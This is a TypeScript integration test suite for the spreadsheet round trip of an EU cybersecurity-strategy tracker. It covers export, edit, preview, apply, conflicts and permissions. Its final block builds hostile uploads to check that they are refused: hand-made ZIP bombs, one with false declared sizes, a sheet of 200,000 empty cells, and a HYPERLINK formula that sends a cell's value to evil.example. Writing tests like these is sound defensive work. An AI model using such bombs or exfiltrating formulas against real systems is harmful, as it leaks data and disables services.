import { deflateRawSync } from 'node:zlib';
import ExcelJS from 'exceljs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { OPEN_ROUND, UPDATE_ACTION, clientFor, readAction, type Client } from '../support/api.js';
import { startTestServer, type TestServer } from '../support/local-server.js';

/**
 * The spreadsheet round trip (issue 13) over real HTTP on the local server: download the
 * editable workbook, edit it with exceljs as a person would in a spreadsheet, upload it for a
 * preview, apply it; for each role that may write, with conflicts, invalid rows, hostile files
 * and repeated applies.
 */
let now = new Date('2013-06-01T09:00:00Z');
let server: TestServer;
let coordinator: Client;
let enisa: Client;
let france: Client;
let viewer: Client;

type PreviewRow = {
  sheet: string;
  row: number;
  ref: string;
  country?: string;
  outcome: string;
  changes?: { field: string; cell: string; before: unknown; after: unknown }[];
  effectiveOn?: string;
  problems?: { cell: string; message: string }[];
  conflict?: { exportedVersion: number | null; currentVersion: number | null; saves: { by: string; at: string; fields: string[] }[] };
  reason?: string;
};
type Answer = { id: string; rows: PreviewRow[]; repeated?: boolean; error?: { code: string; message: string } };

beforeAll(async () => {
  server = await startTestServer({ clock: () => now });
  coordinator = await clientFor(server, 'coordinator');
  enisa = await clientFor(server, 'owner-enisa');
  france = await clientFor(server, 'contact-fr');
  viewer = await clientFor(server, 'viewer');
});
afterAll(() => server.close());

async function download(client: Client | null, query = ''): Promise<Response> {
  return fetch(`${server.url}/export/workbook.xlsx${query}`, { headers: client ? { authorization: `Bearer ${client.token}` } : {} });
}

async function workbookOf(client: Client, query = ''): Promise<ExcelJS.Workbook> {
  const response = await download(client, query);
  expect(response.status).toBe(200);
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.load((await response.arrayBuffer()) as ExcelJS.Buffer);
  return workbook;
}

async function bytesOf(workbook: ExcelJS.Workbook): Promise<Uint8Array<ArrayBuffer>> {
  return new Uint8Array(await workbook.xlsx.writeBuffer());
}

async function upload(client: Client | null, body: Uint8Array<ArrayBuffer> | string): Promise<{ status: number; body: Answer }> {
  const response = await fetch(`${server.url}/import/workbook.xlsx`, {
    method: 'POST',
    headers: {
      ...(client ? { authorization: `Bearer ${client.token}` } : {}),
      'content-type': 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet',
    },
    body,
  });
  return { status: response.status, body: (await response.json()) as Answer };
}

async function apply(client: Client, id: string, select?: string[]): Promise<{ status: number; body: Answer }> {
  const response = await fetch(`${server.url}/import/${id}/apply`, {
    method: 'POST',
    headers: { authorization: `Bearer ${client.token}`, 'content-type': 'application/json' },
    ...(select ? { body: JSON.stringify({ select }) } : {}),
  });
  return { status: response.status, body: (await response.json()) as Answer };
}

/** The data row of a sheet whose reference cell is `ref`. */
function rowOf(sheet: ExcelJS.Worksheet, ref: string, country?: string): ExcelJS.Row {
  for (let number = 2; number <= sheet.rowCount; number += 1) {
    const row = sheet.getRow(number);
    if (row.getCell(1).value === ref && (!country || row.getCell(3).value === country)) return row;
  }
  throw new Error(`no row ${ref}`);
}

const byRef = (rows: PreviewRow[], ref: string) => rows.find((row) => row.ref === ref)!;
/** Each row's outcome, but for rows that were and stay unchanged. */
const outcomes = (rows: PreviewRow[]) =>
  Object.fromEntries(rows.filter((row) => row.outcome !== 'UNCHANGED' && row.reason !== 'UNCHANGED').map((row) => [row.ref, row.outcome]));

describe('the editable workbook', () => {
  it('an owner gets their body’s actions, locked where they cannot write, with lists, rules, dates and the hidden version', async () => {
    const workbook = await workbookOf(enisa, '?lang=fr');
    expect(workbook.worksheets.map((sheet) => sheet.name)).toEqual(['Mode d’emploi', 'Actions']);
    expect(String(workbook.worksheets[0]!.getCell('A1').value)).toBe('Mettre à jour depuis un tableur');
    const sheet = workbook.getWorksheet('Actions')!;
    const enisaActions = (await server.store.listActions('eu-cybersecurity-2013')).filter((action) => action.owners.includes('ENISA'));
    expect(sheet.rowCount - 1).toBe(enisaActions.length);
    const row = rowOf(sheet, '2.1-04');
    expect(row.getCell(1).protection?.locked).not.toBe(false); // the reference stays locked
    expect(row.getCell(2).protection?.locked).not.toBe(false);
    expect(row.getCell(5).protection).toMatchObject({ locked: false }); // status
    expect(row.getCell(5).dataValidation).toMatchObject({ type: 'list', formulae: ['"Non commencée,En cours,Achevée,Continue,Abandonnée"'] });
    expect(row.getCell(6).dataValidation).toMatchObject({ type: 'whole', operator: 'between', formulae: [0, 100] });
    expect(row.getCell(10).dataValidation).toMatchObject({ type: 'date' });
    expect(row.getCell(4).value).toBeInstanceOf(Date);
    expect(sheet.getColumn(11).hidden).toBe(true);
    expect(row.getCell(11).value).toBe(1);
    expect((sheet as unknown as { sheetProtection: unknown }).sheetProtection).toMatchObject({ sheet: true });
  });

  it('a viewer has nothing to update; without a token, 401', async () => {
    const refused = await download(viewer);
    expect(refused.status).toBe(403);
    expect(await refused.json()).toMatchObject({ error: { code: 'FORBIDDEN' } });
    expect((await download(null)).status).toBe(401);
  });

  it('refuses a language it does not have, and any other parameter', async () => {
    const italian = await download(coordinator, '?lang=it');
    expect(italian.status).toBe(400);
    expect(await italian.json()).toEqual({
      error: { code: 'BAD_USER_INPUT', message: 'lang "it" is not a language of the workbook: give "en", "fr" or "de".' },
    });
    expect((await download(coordinator, '?asOf=2013-06-01')).status).toBe(400);
  });
});

describe('the round trip', () => {
  it('an owner: edit, preview (changing nothing), apply through the API, then the same file again changes nothing', async () => {
    const workbook = await workbookOf(enisa);
    const sheet = workbook.getWorksheet('Actions')!;
    const first = rowOf(sheet, '2.1-04');
    first.getCell(5).value = 'In progress';
    first.getCell(6).value = 35;
    first.getCell(7).value = new Date('2014-06-30T00:00:00Z');
    first.getCell(9).value = 'Draft guidelines sent to the member states.';
    first.getCell(10).value = new Date('2013-05-20T00:00:00Z'); // it happened before it was typed
    const second = rowOf(sheet, '2.1-05');
    second.getCell(6).value = 150; // invalid: the API's own rule
    const bytes = await bytesOf(workbook);

    const preview = await upload(enisa, bytes);
    expect(preview.status).toBe(200);
    expect(outcomes(preview.body.rows)).toEqual({ '2.1-04': 'CHANGED', '2.1-05': 'INVALID' });
    expect(byRef(preview.body.rows, '2.1-04').changes).toEqual([
      { field: 'status', cell: `E${first.number}`, before: 'NOT_STARTED', after: 'IN_PROGRESS' },
      { field: 'progress', cell: `F${first.number}`, before: 0, after: 35 },
      { field: 'forecastDate', cell: `G${first.number}`, before: null, after: '2014-06-30' },
      { field: 'note', cell: `I${first.number}`, before: null, after: 'Draft guidelines sent to the member states.' },
    ]);
    expect(byRef(preview.body.rows, '2.1-04').effectiveOn).toBe('2013-05-20');
    expect(byRef(preview.body.rows, '2.1-05').problems).toEqual([
      { cell: `F${second.number}`, message: 'Progress must be a whole number between 0 and 100.' },
    ]);
    // A preview writes nothing.
    expect((await readAction(enisa, '2.1-04')).version).toBe(1);

    const applied = await apply(enisa, preview.body.id);
    expect(applied.status).toBe(200);
    expect(outcomes(applied.body.rows)).toEqual({ '2.1-04': 'APPLIED', '2.1-05': 'SKIPPED' });
    expect(byRef(applied.body.rows, '2.1-05').reason).toBe('INVALID');
    const action = await readAction(enisa, '2.1-04');
    expect(action).toMatchObject({
      status: 'IN_PROGRESS',
      progress: 35,
      forecastDate: '2014-06-30',
      note: 'Draft guidelines sent to the member states.',
      version: 2,
    });
    // Through the API's write path: one ACTION_UPDATED event by the owner, before → after.
    const [event] = action.history.edges.map((edge) => edge.node).filter((node) => node.type === 'ACTION_UPDATED');
    expect(event).toMatchObject({
      author: { id: 'owner-enisa' },
      before: { status: 'NOT_STARTED', version: 1 },
      after: { status: 'IN_PROGRESS', progress: 35, version: 2 },
    });
    // The day it happened went to the API as effectiveOn.
    const dated = await enisa.call<{
      action: { effectiveOn: string; history: { edges: { node: { type: string; effectiveOn: string; recordedAt: string } }[] } };
    }>('query Dated($id: ID!) { action(id: $id) { effectiveOn history(first: 5) { edges { node { type effectiveOn recordedAt } } } } }', {
      id: '2.1-04',
    });
    expect(dated.data?.action.effectiveOn).toBe('2013-05-20');
    expect(dated.data?.action.history.edges.map((edge) => edge.node).find((node) => node.type === 'ACTION_UPDATED')).toMatchObject({
      effectiveOn: '2013-05-20',
      recordedAt: '2013-06-01T09:00:00.000Z',
    });
    // The invalid row applied nothing.
    expect((await readAction(enisa, '2.1-05')).version).toBe(1);

    // Applying the same preview again changes nothing and gives the first answer.
    const again = await apply(enisa, preview.body.id);
    expect(again.body.repeated).toBe(true);
    expect(outcomes(again.body.rows)).toEqual(outcomes(applied.body.rows));
    expect((await readAction(enisa, '2.1-04')).version).toBe(2);

    // The same file uploaded again: its row says what is stored now, so it is unchanged, not a conflict.
    const reupload = await upload(enisa, bytes);
    expect(byRef(reupload.body.rows, '2.1-04').outcome).toBe('UNCHANGED');
    const reapplied = await apply(enisa, reupload.body.id);
    expect(byRef(reapplied.body.rows, '2.1-04')).toMatchObject({ outcome: 'SKIPPED', reason: 'UNCHANGED' });
    expect((await readAction(enisa, '2.1-04')).version).toBe(2);
  });

  it('a change saved between export and import is never overwritten: the row is a conflict, with who, when and what', async () => {
    const workbook = await workbookOf(coordinator);
    const row = rowOf(workbook.getWorksheet('Actions')!, '2.3-01');
    row.getCell(6).value = 60;
    const bytes = await bytesOf(workbook);

    const { version } = await readAction(coordinator, '2.3-01');
    now = new Date('2013-06-02T10:00:00Z');
    const saved = await coordinator.call(UPDATE_ACTION, { input: { actionId: '2.3-01', progress: 20, expectedVersion: version } });
    expect(saved.errors).toBeUndefined();

    const preview = await upload(coordinator, bytes);
    const conflict = byRef(preview.body.rows, '2.3-01');
    expect(conflict).toMatchObject({
      outcome: 'CONFLICT',
      changes: [{ field: 'progress', before: 20, after: 60 }],
      conflict: {
        exportedVersion: version,
        currentVersion: version + 1,
        saves: [{ by: 'Commission coordinator', at: '2013-06-02T10:00:00.000Z', fields: ['progress'] }],
      },
    });
    const applied = await apply(coordinator, preview.body.id);
    expect(byRef(applied.body.rows, '2.3-01')).toMatchObject({ outcome: 'SKIPPED', reason: 'CONFLICT' });
    expect(await readAction(coordinator, '2.3-01')).toMatchObject({ progress: 20, version: version + 1 });
  });

  it('a row left as downloaded is unchanged though someone saved its action since; a row changed only where they did not is still a conflict', async () => {
    const workbook = await workbookOf(coordinator);
    const sheet = workbook.getWorksheet('Actions')!;
    const mine = rowOf(sheet, '2.3-03');
    mine.getCell(9).value = 'Steering group set up.';
    const bytes = await bytesOf(workbook);
    for (const actionId of ['2.3-02', '2.3-03']) {
      const { version } = await readAction(coordinator, actionId);
      expect((await coordinator.call(UPDATE_ACTION, { input: { actionId, progress: 35, expectedVersion: version } })).errors).toBeUndefined();
    }
    const preview = await upload(coordinator, bytes);
    expect(byRef(preview.body.rows, '2.3-02').outcome).toBe('UNCHANGED');
    // Only the person's own change is listed, not a revert of the other save.
    expect(byRef(preview.body.rows, '2.3-03')).toMatchObject({
      outcome: 'CONFLICT',
      changes: [{ field: 'note', cell: `I${mine.number}`, before: null, after: 'Steering group set up.' }],
      conflict: { saves: [{ fields: ['progress'] }] },
    });
  });

  it('a change saved between preview and apply fails that row with the API’s conflict, and only that row', async () => {
    const workbook = await workbookOf(coordinator);
    const sheet = workbook.getWorksheet('Actions')!;
    rowOf(sheet, '2.4-01').getCell(6).value = 10;
    rowOf(sheet, '2.4-02').getCell(6).value = 15;
    const preview = await upload(coordinator, await bytesOf(workbook));
    expect(outcomes(preview.body.rows)).toEqual({ '2.4-01': 'CHANGED', '2.4-02': 'CHANGED' });

    const { version } = await readAction(coordinator, '2.4-01');
    expect((await coordinator.call(UPDATE_ACTION, { input: { actionId: '2.4-01', progress: 5, expectedVersion: version } })).errors).toBeUndefined();
    const applied = await apply(coordinator, preview.body.id, [
      'Actions!' + rowOf(sheet, '2.4-01').number,
      'Actions!' + rowOf(sheet, '2.4-02').number,
    ]);
    expect(byRef(applied.body.rows, '2.4-01')).toMatchObject({ outcome: 'FAILED', code: 'CONFLICT' });
    expect(byRef(applied.body.rows, '2.4-02')).toMatchObject({ outcome: 'APPLIED' });
    expect((await readAction(coordinator, '2.4-01')).progress).toBe(5);
    expect((await readAction(coordinator, '2.4-02')).progress).toBe(15);
  });

  it('applies only the rows selected', async () => {
    const workbook = await workbookOf(coordinator);
    const sheet = workbook.getWorksheet('Actions')!;
    const kept = rowOf(sheet, '2.5-01');
    kept.getCell(6).value = 30;
    rowOf(sheet, '2.5-02').getCell(6).value = 30;
    const preview = await upload(coordinator, await bytesOf(workbook));
    const applied = await apply(coordinator, preview.body.id, [`Actions!${kept.number}`]);
    expect(outcomes(applied.body.rows)).toEqual({ '2.5-01': 'APPLIED', '2.5-02': 'SKIPPED' });
    expect(byRef(applied.body.rows, '2.5-02').reason).toBe('NOT_SELECTED');
    expect((await readAction(coordinator, '2.5-02')).progress).toBe(0);
  });

  it('"When did this happen?" follows the API’s rule for effectiveOn: another day is invalid, with both ends in the sentence', async () => {
    const workbook = await workbookOf(coordinator);
    const sheet = workbook.getWorksheet('Actions')!;
    const future = rowOf(sheet, '2.2-03');
    future.getCell(6).value = 5;
    future.getCell(10).value = new Date('2013-07-01T00:00:00Z');
    const early = rowOf(sheet, '2.2-04');
    early.getCell(6).value = 5;
    early.getCell(10).value = '2012-12-31';
    const preview = await upload(coordinator, await bytesOf(workbook));
    const today = now.toISOString().slice(0, 10);
    expect(byRef(preview.body.rows, '2.2-03')).toMatchObject({
      outcome: 'INVALID',
      problems: [
        {
          cell: `J${future.number}`,
          message: `The day it happened (effectiveOn) 2013-07-01 is in the future: the earliest allowed is 2013-02-07 (the adoption), the latest ${today} (today, UTC).`,
        },
      ],
    });
    expect(byRef(preview.body.rows, '2.2-04').problems).toEqual([
      {
        cell: `J${early.number}`,
        message: expect.stringMatching(/^The day it happened \(effectiveOn\) 2012-12-31 is before the strategy was adopted/),
      },
    ]);
    await apply(coordinator, preview.body.id);
    expect((await readAction(coordinator, '2.2-03')).progress).toBe(0);
  });

  it('an owner’s row for another body’s action is refused with the API’s reason', async () => {
    const workbook = await workbookOf(enisa);
    const sheet = workbook.getWorksheet('Actions')!;
    // Turn a row into another body's action, as someone unlocking the sheet might.
    const row = sheet.getRow(2);
    row.getCell(1).value = '2.3-01';
    row.getCell(6).value = 99;
    const preview = await upload(enisa, await bytesOf(workbook));
    expect(byRef(preview.body.rows, '2.3-01')).toMatchObject({
      outcome: 'INVALID',
      problems: [{ cell: 'A2', message: expect.stringContaining("Only the action's owners") }],
    });
  });

  it('a national contact: their country’s reports; an invalid row (no open round) applies nothing, then a report is submitted', async () => {
    const bytesBefore = await bytesOf(await workbookOf(france));
    const workbook = await workbookOf(france, '?lang=de');
    expect(workbook.worksheets.map((sheet) => sheet.name)).toEqual(['Anleitung', 'Berichte der Staaten']);
    const sheet = workbook.getWorksheet('Berichte der Staaten')!;
    const row = rowOf(sheet, '2.1-10', 'FR');
    row.getCell(5).value = 'In Arbeit';
    row.getCell(7).value = 'Loi adoptée en première lecture.';
    row.getCell(8).value = new Date('2013-05-20T00:00:00Z');
    const bytes = await bytesOf(workbook);

    const closed = await upload(france, bytes);
    expect(byRef(closed.body.rows, '2.1-10')).toMatchObject({
      outcome: 'INVALID',
      country: 'FR',
      problems: [{ message: 'No reporting round is open: reports can be submitted only while a round is open.' }],
    });
    await apply(france, closed.body.id);
    expect((await readAction(france, '2.1-10')).memberStateReports).toEqual([]);

    expect((await coordinator.call(OPEN_ROUND, { input: { name: 'Summer 2013', closes: '2013-07-31' } })).errors).toBeUndefined();
    const preview = await upload(france, bytes);
    expect(byRef(preview.body.rows, '2.1-10')).toMatchObject({
      outcome: 'CHANGED',
      changes: [{ field: 'status', before: null, after: 'IN_PROGRESS' }, { field: 'note' }],
    });
    const applied = await apply(france, preview.body.id);
    expect(byRef(applied.body.rows, '2.1-10').outcome).toBe('APPLIED');
    const [report] = (await readAction(france, '2.1-10')).memberStateReports;
    expect(report).toMatchObject({ country: 'FR', version: 1, review: { state: 'SUBMITTED' } });

    // The file downloaded before the report existed, edited the same way, is now unchanged.
    const earlier = new ExcelJS.Workbook();
    await earlier.xlsx.load(bytesBefore as unknown as ExcelJS.Buffer);
    const earlierRow = rowOf(earlier.getWorksheet('Member-state reports')!, '2.1-10', 'FR');
    earlierRow.getCell(5).value = 'In progress';
    earlierRow.getCell(7).value = 'Loi adoptée en première lecture.';
    expect(byRef((await upload(france, await bytesOf(earlier))).body.rows, '2.1-10').outcome).toBe('UNCHANGED');
    earlierRow.getCell(5).value = 'Completed';
    expect(byRef((await upload(france, await bytesOf(earlier))).body.rows, '2.1-10')).toMatchObject({
      outcome: 'CONFLICT',
      conflict: { exportedVersion: null, currentVersion: 1 },
    });
  });

  it('a preview belongs to its uploader: someone else’s, or an unknown one, is 404', async () => {
    const workbook = await workbookOf(coordinator);
    rowOf(workbook.getWorksheet('Actions')!, '4-01').getCell(6).value = 45;
    const preview = await upload(coordinator, await bytesOf(workbook));
    const stolen = await apply(enisa, preview.body.id);
    expect(stolen.status).toBe(404);
    expect(stolen.body.error?.code).toBe('NOT_FOUND');
    expect((await apply(coordinator, 'AAAAAAAAAAAAAAAAAAAAAA')).status).toBe(404);
    expect((await readAction(coordinator, '4-01')).progress).toBe(0);
  });
});

/** A ZIP archive of stored or deflated entries, written by hand: the hostile files are made of it. */
function zip(entries: { name: string; data: Buffer; declaredSize?: number }[]): Uint8Array<ArrayBuffer> {
  const locals: Buffer[] = [];
  const centrals: Buffer[] = [];
  let offset = 0;
  for (const entry of entries) {
    const compressed = deflateRawSync(entry.data);
    const name = Buffer.from(entry.name);
    const local = Buffer.alloc(30);
    local.writeUInt32LE(0x04034b50, 0);
    local.writeUInt16LE(20, 4);
    local.writeUInt16LE(8, 8);
    local.writeUInt32LE(compressed.length, 18);
    local.writeUInt32LE(entry.declaredSize ?? entry.data.length, 22);
    local.writeUInt16LE(name.length, 26);
    const central = Buffer.alloc(46);
    central.writeUInt32LE(0x02014b50, 0);
    central.writeUInt16LE(20, 4);
    central.writeUInt16LE(20, 6);
    central.writeUInt16LE(8, 10);
    central.writeUInt32LE(compressed.length, 20);
    central.writeUInt32LE(entry.declaredSize ?? entry.data.length, 24);
    central.writeUInt16LE(name.length, 28);
    central.writeUInt32LE(offset, 42);
    locals.push(local, name, compressed);
    centrals.push(central, name);
    offset += local.length + name.length + compressed.length;
  }
  const directory = Buffer.concat(centrals);
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(entries.length, 8);
  end.writeUInt16LE(entries.length, 10);
  end.writeUInt32LE(directory.length, 12);
  end.writeUInt32LE(offset, 16);
  return new Uint8Array(Buffer.concat([...locals, directory, end]));
}

describe('hostile files: 400 with a sentence to act on, and nothing written', () => {
  async function refused(body: Uint8Array<ArrayBuffer> | string, pattern: RegExp) {
    const before = (await server.store.strategyState('eu-cybersecurity-2013'))!.revision;
    const answer = await upload(coordinator, body);
    expect(answer.status).toBe(400);
    expect(answer.body.error).toMatchObject({ code: 'BAD_USER_INPUT', message: expect.stringMatching(pattern) });
    expect((await server.store.strategyState('eu-cybersecurity-2013'))!.revision).toBe(before);
  }

  it('not a workbook', async () => {
    await refused('Reference,Status\n2.1-04,COMPLETED\n', /not an Excel workbook/);
    await refused(zip([{ name: 'hello.txt', data: Buffer.from('hello') }]), /not an Excel workbook/);
  });

  it('a zip bomb, with honest or lying sizes', async () => {
    const zeros = Buffer.alloc(30 * 1024 * 1024);
    await refused(zip([{ name: 'xl/worksheets/sheet1.xml', data: zeros }]), /unpacks to more than 20 MB/);
    await refused(zip([{ name: 'xl/worksheets/sheet1.xml', data: zeros, declaredSize: 1000 }]), /unpacks to more than 20 MB/);
    const many = Array.from({ length: 150 }, (_, index) => ({ name: `part${index}.xml`, data: Buffer.from('x') }));
    await refused(zip(many), /holds 150 parts/);
  });

  it('a sheet of a million tiny cells within the size bounds', async () => {
    const sheetXml = Buffer.from(`<worksheet><sheetData><row r="1">${'<c/>'.repeat(200_000)}</row></sheetData></worksheet>`);
    await refused(
      zip([
        { name: 'xl/workbook.xml', data: Buffer.from('<workbook/>') },
        { name: 'xl/worksheets/sheet1.xml', data: sheetXml },
      ]),
      /more than 100,000 cells/,
    );
  });

  it('over 2 MB', async () => {
    await refused(new Uint8Array(2 * 1024 * 1024 + 10), /larger than 2 MB/);
  });

  it('over 1,000 rows', async () => {
    const workbook = await workbookOf(coordinator);
    const sheet = workbook.getWorksheet('Actions')!;
    const template = sheet.getRow(2).values as ExcelJS.CellValue[];
    for (let index = 0; index < 1_000; index += 1) sheet.addRow(template.slice(1));
    await refused(await bytesOf(workbook), /at most 1000/);
  });

  it('a renamed sheet or a moved column', async () => {
    const renamed = await workbookOf(coordinator);
    renamed.getWorksheet('Actions')!.name = 'My actions';
    await refused(await bytesOf(renamed), /The sheet "My actions" is not one of this workbook's/);

    const moved = await workbookOf(coordinator);
    const sheet = moved.getWorksheet('Actions')!;
    sheet.spliceColumns(5, 1);
    await refused(await bytesOf(moved), /Column E of the sheet "Actions" should be "Status" but is "Progress \(0–100\)"/);
  });

  it('a formula is read as its text, never evaluated', async () => {
    const workbook = await workbookOf(coordinator);
    const row = rowOf(workbook.getWorksheet('Actions')!, '2.1-01');
    row.getCell(6).value = { formula: '20+30', result: 50 };
    row.getCell(9).value = { formula: 'HYPERLINK("http://evil.example/?"&A1,"x")', result: 'x' };
    const preview = await upload(coordinator, await bytesOf(workbook));
    const problems = byRef(preview.body.rows, '2.1-01').problems;
    expect(byRef(preview.body.rows, '2.1-01').outcome).toBe('INVALID');
    expect(problems).toContainEqual({ cell: `F${row.number}`, message: 'Progress must be a whole number between 0 and 100.' });
    expect(byRef(preview.body.rows, '2.1-01').changes).toContainEqual(
      expect.objectContaining({ field: 'note', after: '=HYPERLINK("http://evil.example/?"&A1,"x")' }),
    );
  });

  it('a viewer has nothing to import; without a token, 401', async () => {
    const bytes = await bytesOf(await workbookOf(coordinator));
    expect(await upload(viewer, bytes)).toMatchObject({ status: 403, body: { error: { code: 'FORBIDDEN' } } });
    expect((await upload(null, bytes)).status).toBe(401);
  });
});
